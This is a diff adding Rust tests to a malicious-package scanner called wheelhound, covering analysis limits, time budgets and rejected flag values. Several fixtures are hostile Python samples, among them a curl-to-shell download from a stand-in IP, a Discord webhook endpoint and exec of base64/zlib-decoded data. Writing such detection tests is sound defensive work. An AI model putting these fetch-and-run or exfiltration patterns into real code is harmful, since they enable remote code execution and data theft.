@@ -13,7 +13,10 @@ use std::time::{Duration, Instant};
 
 use base64::Engine as _;
 use serde_json::Value;
-use wheelhound::{InputSpec, PackageReport, ScanOptions, Verdict, analyze_package, scan_streaming};
+use wheelhound::{
+    AnalysisOptions, InputSpec, PackageReport, ScanOptions, Verdict, analyze_package,
+    scan_streaming,
+};
 use wheelhound_input::{LoadOptions, Member, Origin, Package};
 
 /// A case slower than this is a hang, not a slow debug build.
@@ -59,6 +62,19 @@ fn on_big_stack<T: Send>(f: impl FnOnce() -> T + Send) -> T {
 
 /// Analyses a hand-built package, as the scanner would after loading.
 fn analyze(label: &str, members: Vec<(&str, Vec<u8>)>) -> PackageReport {
+    analyze_with(label, members, AnalysisOptions::default())
+}
+
+/// Like [`analyze`], with analysis bounds of the test's choosing.
+fn analyze_with(
+    label: &str,
+    members: Vec<(&str, Vec<u8>)>,
+    analysis: AnalysisOptions,
+) -> PackageReport {
+    let options = ScanOptions {
+        analysis,
+        ..ScanOptions::default()
+    };
     let package = Package {
         input: label.to_owned(),
         origin: Origin::Directory,
@@ -74,7 +90,7 @@ fn analyze(label: &str, members: Vec<(&str, Vec<u8>)>) -> PackageReport {
         fatal: false,
     };
     timed(label, || {
-        on_big_stack(|| analyze_package(package, &ScanOptions::default()))
+        on_big_stack(|| analyze_package(package, &options))
     })
 }
 
@@ -166,22 +182,56 @@ fn snapshot(root: &Path) -> BTreeSet<PathBuf> {
 
 /// Runs the binary: `scan --format jsonl`, returning the exit code and the parsed lines.
 fn run_bin(cwd: &Path, input: &Path) -> (i32, Vec<Value>) {
+    let (code, lines, _) = run_bin_with(cwd, &[], &[input]);
+    (code, lines)
+}
+
+/// Runs `scan --format jsonl` with extra options on several inputs: exit code, parsed lines,
+/// stderr.
+fn run_bin_with(cwd: &Path, options: &[&str], inputs: &[&Path]) -> (i32, Vec<Value>, String) {
     let start = Instant::now();
     let output = Command::new(env!("CARGO_BIN_EXE_wheelhound"))
         .current_dir(cwd)
         .args(["scan", "--format", "jsonl", "--fail-on", "never"])
-        .arg(input)
+        .args(options)
+        .args(inputs)
         .output()
         .unwrap();
     let elapsed = start.elapsed();
-    assert!(elapsed < HANG, "binary on {input:?} took {elapsed:?}");
+    assert!(elapsed < HANG, "binary on {inputs:?} took {elapsed:?}");
     let code = output.status.code().unwrap_or(-1);
     let stdout = String::from_utf8(output.stdout).unwrap();
     let lines = stdout
         .lines()
         .map(|l| serde_json::from_str::<Value>(l).unwrap())
         .collect();
-    (code, lines)
+    (code, lines, String::from_utf8(output.stderr).unwrap())
+}
+
+/// True when `report` has an `analysis` error entry whose message contains `needle`.
+fn has_analysis_error(report: &PackageReport, needle: &str) -> bool {
+    report
+        .errors
+        .iter()
+        .any(|e| e.kind == "analysis" && e.message.contains(needle))
+}
+
+/// True when a `--format jsonl` line has an `analysis` error entry containing `needle`.
+fn line_has_analysis_error(line: &Value, needle: &str) -> bool {
+    line["errors"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|e| e["kind"] == "analysis" && e["message"].as_str().unwrap().contains(needle))
+}
+
+/// Scans `name` holding `source` through the binary with `options`; the one jsonl line.
+fn bin_line(name: &str, source: &[u8], options: &[&str]) -> Value {
+    let (dir, path) = write_temp(name, source);
+    let (code, mut lines, stderr) = run_bin_with(dir.path(), options, &[&path]);
+    assert!((0..=1).contains(&code), "exit {code}: {stderr}");
+    assert_eq!(lines.len(), 1, "{lines:?}");
+    lines.remove(0)
 }
 
 fn assert_bin_verdict(cwd: &Path, input: &Path) -> Value {
@@ -1004,4 +1054,336 @@ fn zlib_bomb_inside_a_literal() {
     );
     let report = analyze("zlib bomb literal", vec![("pkg/z.py", src.into_bytes())]);
     assert_findings_or_errors("zlib bomb literal", &report);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Analysis bounds: each flag, hit on purpose, ends in an error entry; bad values are refused.
+
+/// Ordinary statements, enough that a walk of them takes many time-budget checks.
+fn filler(statements: usize) -> String {
+    (0..statements).map(|i| format!("v{i} = {i}\n")).collect()
+}
+
+#[test]
+fn file_over_max_parse_bytes_gets_text_checks_only() {
+    let src = format!(
+        "{}HOOK = 'https://discord.com/api/webhooks/123456789012345678/{}'\n{EVIL_TAIL}",
+        filler(1_000),
+        "a".repeat(68)
+    );
+    let small = AnalysisOptions {
+        max_parse_bytes: 4096,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with(
+        "over parse bytes",
+        vec![("pkg/m.py", src.clone().into_bytes())],
+        small,
+    );
+    assert!(
+        has_analysis_error(&report, "4096-byte parse limit"),
+        "{:?}",
+        report.errors
+    );
+    let rules: BTreeSet<&str> = report
+        .files
+        .iter()
+        .flat_map(|f| f.evidence.iter().map(|e| e.rule.as_str()))
+        .collect();
+    // The endpoint is found in the raw text; the os.system call needs the syntax tree.
+    assert!(rules.contains("WH160"), "{rules:?}");
+    assert!(!rules.contains("WH120"), "{rules:?}");
+
+    let line = bin_line("m.py", src.as_bytes(), &["--max-parse-bytes", "4KiB"]);
+    assert!(line_has_analysis_error(&line, "parse limit"), "{line}");
+    let line = bin_line("m.py", src.as_bytes(), &[]);
+    assert!(!line_has_analysis_error(&line, "parse limit"), "{line}");
+}
+
+#[test]
+fn layers_deeper_than_max_layer_depth_get_an_entry() {
+    let src = layer_chain(4);
+    let shallow = AnalysisOptions {
+        max_layer_depth: 2,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with("layer depth", vec![("pkg/chain.py", src.clone())], shallow);
+    assert!(
+        has_analysis_error(&report, "nest deeper than 2"),
+        "{:?}",
+        report.errors
+    );
+
+    let line = bin_line("chain.py", &src, &["--max-layer-depth", "2"]);
+    assert!(
+        line_has_analysis_error(&line, "nest deeper than 2"),
+        "{line}"
+    );
+    let line = bin_line("chain.py", &src, &[]);
+    assert!(!line_has_analysis_error(&line, "nest deeper"), "{line}");
+    assert_ne!(line["verdict"], "benign", "{line}");
+}
+
+#[test]
+fn layers_over_max_layer_bytes_get_an_entry() {
+    let src = layer_chain(3);
+    let line = bin_line("chain.py", &src, &["--max-layer-bytes", "64"]);
+    assert!(
+        line_has_analysis_error(&line, "per-file byte budget"),
+        "{line}"
+    );
+}
+
+#[test]
+fn decoding_step_over_max_decode_bytes_gets_an_entry() {
+    let literal = b64(&zlib(&vec![b'#'; 1 << 20]));
+    let src = format!(
+        "import base64, zlib\nexec(zlib.decompress(base64.b64decode('{literal}')))\n{EVIL_TAIL}"
+    );
+    let small = AnalysisOptions {
+        max_decode_bytes: 64 << 10,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with(
+        "decode bytes",
+        vec![("pkg/z.py", src.clone().into_bytes())],
+        small,
+    );
+    assert!(
+        has_analysis_error(&report, "65536-byte output limit"),
+        "{:?}",
+        report.errors
+    );
+    assert!(report.verdict != Verdict::Benign, "{:?}", report.errors);
+
+    let line = bin_line("z.py", src.as_bytes(), &["--max-decode-bytes", "64KiB"]);
+    assert!(line_has_analysis_error(&line, "output limit"), "{line}");
+    let line = bin_line("z.py", src.as_bytes(), &[]);
+    assert!(!line_has_analysis_error(&line, "output limit"), "{line}");
+}
+
+#[test]
+fn syntax_deeper_than_max_syntax_depth_gets_an_entry() {
+    let src = nested("[", "]", 500);
+    let shallow = AnalysisOptions {
+        max_syntax_depth: 100,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with("syntax depth", vec![("pkg/b.py", src.clone())], shallow);
+    assert!(
+        has_analysis_error(&report, "nested deeper than 100 levels"),
+        "{:?}",
+        report.errors
+    );
+    assert!(
+        report.verdict != Verdict::Benign,
+        "the tail was missed: {:?}",
+        report.errors
+    );
+
+    let line = bin_line("b.py", &src, &["--max-syntax-depth", "100"]);
+    assert!(
+        line_has_analysis_error(&line, "nested deeper than 100 levels"),
+        "{line}"
+    );
+    let line = bin_line("b.py", &src, &[]);
+    assert!(!line_has_analysis_error(&line, "nested deeper"), "{line}");
+}
+
+#[test]
+fn deepest_accepted_syntax_depth_fits_the_analysis_stack() {
+    // `--max-syntax-depth` accepts at most 20,000: the walk recurses once per level, and this
+    // proves that depth fits the analysis threads' stacks in a debug build (larger frames).
+    let deepest = AnalysisOptions {
+        max_syntax_depth: 20_000,
+        ..AnalysisOptions::default()
+    };
+    // Parentheses alone are no syntax node (`((1))` is `1`); calls and displays are.
+    for (open, close) in [("[", "]"), ("{", "}"), ("f(", ")")] {
+        let label = format!("200k {open} at depth 20,000");
+        let report = analyze_with(
+            &label,
+            vec![("pkg/b.py", nested(open, close, 200_000))],
+            deepest.clone(),
+        );
+        // The walk goes depth first, so the bottom is reached before any time budget is spent.
+        assert!(
+            has_analysis_error(&report, "nested deeper than 20000 levels"),
+            "{label}: {:?}",
+            report.errors
+        );
+    }
+}
+
+#[test]
+fn spent_time_budget_stops_the_file_and_keeps_findings_so_far() {
+    // A zero budget is spent at the first clock reading, a fixed number of syntax nodes into
+    // the walk, so this is deterministic: the first lines are analysed, the last are not.
+    let late =
+        "import subprocess\nsubprocess.Popen('curl -s http://203.0.113.9/x | sh', shell=True)\n";
+    let src = format!("{}{}{late}", EVIL_TAIL.trim_start(), filler(5_000));
+    let late_line = src.lines().count() as u32;
+    let spent = AnalysisOptions {
+        max_file_time: Duration::ZERO,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with(
+        "zero budget",
+        vec![("pkg/slow.py", src.clone().into_bytes())],
+        spent,
+    );
+    let entry = report
+        .errors
+        .iter()
+        .find(|e| e.message.contains("time budget"))
+        .unwrap_or_else(|| panic!("no time-budget entry: {:?}", report.errors));
+    assert_eq!(entry.kind, "analysis");
+    assert_eq!(entry.path.as_deref(), Some("pkg/slow.py"));
+    assert!(
+        entry
+            .message
+            .contains("analysis of pkg/slow.py stopped after 0 s"),
+        "{}",
+        entry.message
+    );
+    assert!(
+        report.verdict != Verdict::Benign,
+        "findings before the cut were lost"
+    );
+    let file = &report.files[0];
+    assert!(
+        file.evidence.iter().all(|e| e.line < late_line),
+        "{:?}",
+        file.evidence
+    );
+    assert!(
+        file.confidence <= 0.6,
+        "confidence {} after a cut-off",
+        file.confidence
+    );
+
+    // The same file with the default budget: complete, no entry, the late line is seen.
+    let report = analyze("default budget", vec![("pkg/slow.py", src.into_bytes())]);
+    assert!(
+        !has_analysis_error(&report, "time budget"),
+        "{:?}",
+        report.errors
+    );
+    assert!(
+        report.files[0]
+            .evidence
+            .iter()
+            .any(|e| e.line >= late_line - 1)
+    );
+}
+
+#[test]
+fn spent_time_budget_stops_before_decoded_layers() {
+    let spent = AnalysisOptions {
+        max_file_time: Duration::ZERO,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with(
+        "zero budget layers",
+        vec![("pkg/chain.py", layer_chain(3))],
+        spent,
+    );
+    assert!(
+        has_analysis_error(&report, "time budget"),
+        "{:?}",
+        report.errors
+    );
+    assert!(
+        report
+            .files
+            .iter()
+            .flat_map(|f| &f.evidence)
+            .all(|e| !e.path.contains("#layer")),
+        "a layer was analysed after the budget was spent"
+    );
+}
+
+#[test]
+fn benign_file_cut_by_the_time_budget_is_not_confidently_benign() {
+    let spent = AnalysisOptions {
+        max_file_time: Duration::ZERO,
+        ..AnalysisOptions::default()
+    };
+    let report = analyze_with(
+        "zero budget benign",
+        vec![("pkg/m.py", filler(2_000).into_bytes())],
+        spent,
+    );
+    assert_eq!(report.verdict, Verdict::Benign);
+    assert!(
+        has_analysis_error(&report, "time budget"),
+        "{:?}",
+        report.errors
+    );
+    assert!(
+        report.confidence <= 0.6,
+        "package confidence {}",
+        report.confidence
+    );
+}
+
+#[test]
+fn time_budget_through_the_binary_and_the_scan_goes_on() {
+    let dir = tempfile::tempdir().unwrap();
+    let slow = dir.path().join("slow.py");
+    std::fs::write(&slow, format!("{}{EVIL_TAIL}", filler(20_000))).unwrap();
+    let other = dir.path().join("other.py");
+    std::fs::write(&other, EVIL_TAIL).unwrap();
+    // A microsecond is spent long before the first clock reading: decoding and parsing
+    // 20,000 statements alone take longer, on any machine.
+    let (code, lines, stderr) = run_bin_with(
+        dir.path(),
+        &["--max-file-seconds", "0.000001"],
+        &[&slow, &other],
+    );
+    assert!((0..=1).contains(&code), "exit {code}: {stderr}");
+    assert_eq!(lines.len(), 2, "{lines:?}");
+    assert!(
+        line_has_analysis_error(&lines[0], "stopped after 0.000001 s: time budget"),
+        "{}",
+        lines[0]
+    );
+    assert_eq!(lines[1]["verdict"], "malicious", "{}", lines[1]);
+}
+
+#[test]
+fn bad_analysis_bound_values_exit_2() {
+    let cases: [(&str, &[&str]); 6] = [
+        ("--max-parse-bytes", &["0", "2GiB", "lots", "-1"]),
+        ("--max-layer-depth", &["0", "10001", "-1", "many"]),
+        ("--max-layer-bytes", &["0", "5GiB", "1.5M"]),
+        ("--max-decode-bytes", &["0", "2GiB", "16Q"]),
+        ("--max-syntax-depth", &["0", "20001", "1000000", "1e3"]),
+        (
+            "--max-file-seconds",
+            &["0", "0.0", "-1", "inf", "NaN", "1e9", "86401", "10s"],
+        ),
+    ];
+    let (dir, path) = write_temp("m.py", b"x = 1\n");
+    for (flag, values) in cases {
+        for value in values {
+            // `--flag=value`, so that `-1` reaches the flag's parser instead of reading as an option.
+            let argument = format!("{flag}={value}");
+            let (code, lines, stderr) = run_bin_with(dir.path(), &[&argument], &[&path]);
+            assert_eq!(code, 2, "{flag} {value}: {stderr}");
+            assert!(lines.is_empty(), "{flag} {value} scanned anyway");
+            assert!(stderr.contains(flag), "{flag} {value}: {stderr}");
+        }
+    }
+    let accepted = [
+        "--max-parse-bytes=64MiB",
+        "--max-layer-depth=1",
+        "--max-layer-bytes=1GiB",
+        "--max-decode-bytes=1",
+        "--max-syntax-depth=20000",
+        "--max-file-seconds=0.5",
+    ];
+    let (code, lines, stderr) = run_bin_with(dir.path(), &accepted, &[&path]);
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(lines.len(), 1);
 }
